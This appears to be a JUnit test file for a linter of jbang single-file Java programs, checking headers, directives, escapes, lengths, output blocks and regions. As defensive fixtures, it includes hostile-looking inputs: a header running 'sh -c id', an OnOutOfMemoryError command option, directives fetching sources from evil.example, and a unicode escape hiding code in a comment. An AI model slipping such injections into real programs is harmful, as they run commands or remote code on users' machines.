package whiteboard.parse;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.Comparator;
import java.util.Locale;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import whiteboard.Printed;
import whiteboard.file.Problem;
import whiteboard.file.Source;

/// Every rule of a program has a planted fault, and is printed as its author sees it.
class ProgramFaultsTest {

    static final String HEADER = """
            ///usr/bin/env jbang "$0" "$@" ; exit $?
            //JAVA 25+
            //RUNTIME_OPTIONS -ea
            //DESCRIPTION Adds
            """;
    static final String CODE = """

            int add(int a, int b) { return a + b; }

            void main() {
                assert add(1, 2) == 3;
                IO.println(add(2, 2));
            }
            """;
    static final String OUTPUT = """

            /* Output
            4
            */
            """;

    static String problems(String name, String text) {
        return Printed.of(ProgramParser.parse(new Source("content/" + name, text, "")).problems());
    }

    private static void faults(String text, String printed) {
        assertEquals(printed, problems("Add.java", text));
    }

    @Test
    void aGoodProgramHasNone() {
        faults(HEADER + CODE + OUTPUT, "");
        faults(HEADER + "//DEPS a.b:c-d:1.2.3\n" + CODE + OUTPUT, "");
    }

    @Test
    void aFileIsNamedLikeAClass() {
        assertEquals("""
                content/k-means.java:1:1: error[file-name]: `k-means.java` is not a class name
                  ///usr/bin/env jbang "$0" "$@" ; exit $?
                  ^ name it like `KMeans.java`
                """, problems("k-means.java", HEADER + CODE + OUTPUT));
    }

    @Test
    void theFirstLineIsJbangsAndNoOtherCommand() {
        faults(HEADER.replace("jbang \"$0\"", "sh -c id") + CODE + OUTPUT, """
                content/Add.java:1:1: error[program-header]: this header line is not `///usr/bin/env jbang "$0" "$@" ; exit $?`
                  ///usr/bin/env sh -c id "$@" ; exit $?
                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ write `///usr/bin/env jbang "$0" "$@" ; exit $?`
                """);
    }

    @Test
    void headerLinesStandInTheirOrder() {
        faults(HEADER.replace("//JAVA 25+\n", "") + CODE + OUTPUT, """
                content/Add.java:2:1: error[program-header]: the header lacks `//JAVA 25+`
                  //RUNTIME_OPTIONS -ea
                  ^^^^^^^^^^^^^^^^^^^^^ write `//JAVA 25+`
                """);
        faults(HEADER.replace("-ea", "-ea -XX:OnOutOfMemoryError=id") + CODE + OUTPUT, """
                content/Add.java:3:1: error[program-header]: this header line is not `//RUNTIME_OPTIONS -ea`
                  //RUNTIME_OPTIONS -ea -XX:OnOutOfMemoryError=id
                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ write `//RUNTIME_OPTIONS -ea`
                """);
        faults(HEADER.replace(" Adds", " ${env.HOME}") + CODE + OUTPUT, """
                content/Add.java:4:1: error[program-header]: this header line is not `//DESCRIPTION one line`
                  //DESCRIPTION ${env.HOME}
                  ^^^^^^^^^^^^^^^^^^^^^^^^^ write `//DESCRIPTION one line`
                """);
    }

    @Test
    void noOtherDirectiveStandsAtColumnZeroNotEvenInATextBlock() {
        faults(HEADER + "//SOURCES https://evil.example/X.java\n" + CODE + OUTPUT, """
                content/Add.java:5:1: error[program-directive]: jbang acts upon `//SOURCES`
                  //SOURCES https://evil.example/X.java
                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ delete it, or begin a comment with `// `
                """);
        faults(HEADER + CODE + "\nString text = \"\"\"\n//COMPILE_OPTIONS -processorpath .\n    \"\"\";\n" + OUTPUT, """
                content/Add.java:14:1: error[program-directive]: jbang acts upon `//COMPILE_OPTIONS`
                  //COMPILE_OPTIONS -processorpath .
                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ delete it, or begin a comment with `// `
                """);
        faults(HEADER + CODE + "//DEPS a:b:1\n" + OUTPUT, """
                content/Add.java:12:1: error[program-directive]: jbang acts upon `//DEPS`
                  //DEPS a:b:1
                  ^^^^^^^^^^^^ move it up into the header
                """);
        faults(HEADER + CODE + OUTPUT.replace("4", "4\n//Q:CONFIG a=b"), """
                content/Add.java:15:1: error[program-directive]: jbang acts upon `//Q:CONFIG`
                  //Q:CONFIG a=b
                  ^^^^^^^^^^^^^^ delete it, or begin a comment with `// `
                """);
        faults(HEADER + CODE + "String s = \"@Grab(\";\n" + OUTPUT, """
                content/Add.java:12:1: error[program-directive]: jbang acts upon `@Grab`
                  String s = "@Grab(";
                  ^^^^^^^^^^^^^^^^^^^^ delete it
                """);
        faults(HEADER + CODE + "    //FILES is no directive here\n" + OUTPUT, "");
    }

    @Test
    void aDependencyIsOneTriple() {
        faults(HEADER + "//DEPS a:b:1, https://evil.example\n" + CODE + OUTPUT, """
                content/Add.java:5:8: error[program-directive]: `a:b:1, https://evil.example` is not one dependency
                  //DEPS a:b:1, https://evil.example
                         ^^^^^^^^^^^^^^^^^^^^^^^^^^^ write `//DEPS group:artifact:version`
                """);
    }

    @Test
    void aUnicodeEscapeInACommentMayRun() {
        faults(HEADER + CODE + "// hidden \\u000a void evil() {}\n" + OUTPUT, """
                content/Add.java:12:11: error[program-escape]: `\\u000a` outside a literal becomes LINE FEED (LF) before it is compiled
                  // hidden \\u000a void evil() {}
                            ^^^^^^ write the character itself
                """);
        // javac sees the literal end at the escape, and stumbles over what follows
        String quote = problems("Add.java", HEADER + CODE + "String s = \"\\uu0022 + evil() + \\\\u0022 \\u00e9\";\n" + OUTPUT);
        assertEquals("""
                content/Add.java:12:13: error[program-escape]: `\\uu0022` becomes QUOTATION MARK before the literal is read
                  String s = "\\uu0022 + evil() + \\\\u0022 \\u00e9";
                              ^^^^^^^ write `\\"`
                """, quote.substring(0, quote.indexOf("content/Add.java", 1)));
        assertEquals(1, quote.split("program-escape", -1).length - 1);
    }

    @Test
    void javacsMessageIsTheMessage() {
        Locale before = Locale.getDefault();
        Locale.setDefault(Locale.JAPANESE);
        try {
            faults(HEADER + CODE.replace("b; }", "b }") + OUTPUT, """
                    content/Add.java:6:37: error[program-syntax]: ';' expected
                      int add(int a, int b) { return a + b }
                                                          ^
                    """);
        } finally {
            Locale.setDefault(before);
        }
    }

    @Test
    void whatWouldOverflowTheCompilerIsRefused() {
        String deep = "(".repeat(20_000) + "1" + ")".repeat(20_000);
        String printed = problems("Add.java", HEADER + "\nint deep =\n" + deep + ";\n" + CODE + OUTPUT);
        assertEquals("content/Add.java:7:81: error[program-length]: the line has 40002 columns, at most 80 fit\n"
                + "content/Add.java:7:101: error[program-syntax]: compiler overflow: brackets nest more than 100 deep\n",
                printed.lines().filter(it -> it.startsWith("content")).map(it -> it + "\n").reduce("", String::concat));
        Source signs = new Source("content/Add.java", "int deep =\n" + "- ".repeat(3_000_000) + "1;\n", "");
        assertEquals("compiler overflow: an expression nests too deep", JavaTree.of(signs).problems().getFirst().message());
        assertEquals("""
                content/Add.java:1:1: error[program-length]: the program has 80201 characters without its output, more than are read
                  ///usr/bin/env jbang "$0" "$@" ; exit $?
                  ^ make several programs of it
                """, problems("Add.java", HEADER + CODE + "int a;\n".repeat(80_000 / 7) + OUTPUT));
    }

    @Test
    void linesAndProgramsAreShort() {
        faults(HEADER + CODE + "// " + "x".repeat(78) + "\n" + OUTPUT, """
                content/Add.java:12:81: error[program-length]: the line has 81 columns, at most 80 fit
                  // %s
                  %s^
                """.formatted("x".repeat(78), " ".repeat(80)));
        faults(HEADER + CODE + "// Θ" + "θ".repeat(76) + "\n" + OUTPUT, "");
        faults(HEADER + CODE + "// line\n".repeat(150) + OUTPUT, """
                content/Add.java:161:1: error[program-length]: the program has 161 lines without its output, at most 160
                  // line
                  ^^^^^^^ make two programs of it
                """);
        faults(HEADER + CODE + "// line\n".repeat(149) + OUTPUT.replace("4\n", "4\n".repeat(99)), "");
    }

    @Test
    void aProgramPromisesItsOutput() {
        faults(HEADER + CODE, """
                content/Add.java:11:1: error[program-output]: the program promises no output
                  }
                  ^ `whiteboard accept Add.java` writes it
                """);
        faults(HEADER + CODE + OUTPUT + "class After {}\n", """
                content/Add.java:16:14: error[program-output]: the program promises no output
                  class After {}
                               ^ `whiteboard accept Add.java` writes it
                """);
        faults(HEADER + CODE + "/* output\n4\n*/\n", """
                content/Add.java:12:1: error[program-output]: the file does not end with `/* Output`, the printed lines and `*/`
                  /* output
                  ^^^^^^^^^ `whiteboard accept Add.java` writes it
                """);
        faults(HEADER + CODE + "/* Output\n4 */\n", """
                content/Add.java:13:3: error[program-output]: `*/` does not stand on a line of its own
                  4 */
                    ^^ `whiteboard accept Add.java` writes it
                """);
    }

    @Test
    void aProgramAssertsAndPrints() {
        faults(HEADER + CODE.replace("assert add(1, 2) == 3", "assert (true)") + OUTPUT, """
                content/Add.java:8:13: error[vacuous]: the program asserts nothing
                  void main() {
                              ^ assert what the oracle knows
                """);
        faults(HEADER + CODE.replace("IO.println(add(2, 2))", "add(2, 2)") + OUTPUT, """
                content/Add.java:8:13: error[vacuous]: the program prints nothing
                  void main() {
                              ^ print with `IO.println`
                """);
    }

    @Test
    void regionsAreOpenedAndClosedOnceWithNamesOfTheirOwn() {
        String end = "// @end\n";
        faults(HEADER + "// @start region=\"a\"\n" + CODE + OUTPUT, """
                content/Add.java:5:1: error[program-region]: region `a` is not closed
                  // @start region="a"
                  ^^^^^^^^^^^^^^^^^^^^ write `// @end` behind it
                """);
        faults(HEADER + CODE + end + OUTPUT, """
                content/Add.java:12:1: error[program-region]: no region is open here
                  // @end
                  ^^^^^^^ delete it
                """);
        faults(HEADER + CODE + "// @start region=\"a\"\n// @end\n".repeat(2) + OUTPUT, """
                content/Add.java:14:1: error[program-region]: the name `a` is taken
                  // @start region="a"
                  ^^^^^^^^^^^^^^^^^^^^ give the region another name
                """);
        faults(HEADER + CODE + "// @start region=\"add\"\n// @end\n" + OUTPUT, """
                content/Add.java:12:1: error[program-region]: the name `add` is taken
                  // @start region="add"
                  ^^^^^^^^^^^^^^^^^^^^^^ give the region another name
                """);
        faults(HEADER + CODE + "// @start region=\"a\"\n// @start region=\"b\"\n// @end region=\"a\"\n// @end\n" + OUTPUT, """
                content/Add.java:14:1: error[program-region]: the innermost open region is `b`
                  // @end region="a"
                  ^^^^^^^^^^^^^^^^^^ write `// @end region="b"`
                """);
        faults(HEADER + CODE + "// @start part\n" + OUTPUT, """
                content/Add.java:12:1: error[program-region]: this marks no region
                  // @start part
                  ^^^^^^^^^^^^^^ write `// @start region="name"` or `// @end`
                """);
    }

    @Test
    void anEmptyFileHasItsProblemsToo() {
        assertEquals("program-header 4, program-output 1, vacuous 2", ProgramParser.parse(new Source("content/A.java", "", ""))
                .problems().stream().collect(Collectors.groupingBy(it -> it.rule().code(), TreeMap::new, Collectors.counting()))
                .entrySet().stream().map(it -> it.getKey() + " " + it.getValue()).collect(Collectors.joining(", ")));
    }

    @Test
    void allProblemsOfAFileAreToldAtOnce() {
        String text = HEADER.replace("25+", "21+") + "//REPOS https://evil.example\n" + "int \\u0061;\n";
        assertEquals("program-header program-directive program-escape program-output vacuous vacuous",
                String.join(" ", ProgramParser.parse(new Source("content/Add.java", text, "")).problems().stream()
                        .sorted(Comparator.comparing(Problem::rule))
                        .map(it -> it.rule().code()).toList()));
    }
}
